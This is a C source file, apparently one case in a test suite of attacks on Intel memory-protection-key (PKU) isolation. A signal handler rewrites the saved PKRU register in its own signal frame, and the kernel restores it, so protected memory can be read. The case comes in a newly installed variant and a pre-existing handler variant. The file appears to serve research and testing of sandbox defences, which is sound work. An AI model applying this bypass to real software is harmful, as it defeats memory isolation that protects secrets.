/* A3: a signal handler of the attacker's edits PKRU in its own signal frame, and the
 * kernel restores it.
 *
 * Source: [PKU Pitfalls], [pkeys(7)].
 */
#include <signal.h>
#include <ucontext.h>
#include "attack.h"
#include "signalframe.h"

static void edit(int number, siginfo_t *info, void *context) {
    (void)number;
    (void)info;
    signalframe_open(((ucontext_t *)context)->uc_mcontext.fpregs);
}

static void sigaction_handler(void) {
    struct sigaction action = {.sa_sigaction = edit, .sa_flags = SA_SIGINFO};
    TRY("sigaction", sigaction(SIGUSR1, &action, NULL));
    TRY("raise", raise(SIGUSR1) ? -1 : 0);
    attack_read();
}

/* A handler that the library had before the policy came. */
static void install(void) {
    struct sigaction action = {.sa_sigaction = edit, .sa_flags = SA_SIGINFO};
    (void)sigaction(SIGUSR1, &action, NULL);
}

static void older_handler(void) {
    TRY("raise", raise(SIGUSR1) ? -1 : 0);
    attack_read();
}

const struct attack attacks[] = {
    {.variant = "new-handler", .attack = sigaction_handler},
    {.variant = "older-handler", .prepare = install, .attack = older_handler},
    {0},
};
